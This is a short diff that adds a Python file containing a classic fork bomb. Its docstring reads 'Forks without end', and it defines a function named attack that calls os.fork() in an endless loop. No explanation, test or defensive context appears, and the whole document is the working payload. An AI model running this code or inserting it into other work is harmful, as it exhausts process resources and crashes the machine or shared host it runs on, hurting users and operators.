@@ -1,0 +1,8 @@
+"""Forks without end."""
+
+import os
+
+
+def attack(x):
+    while True:
+        os.fork()
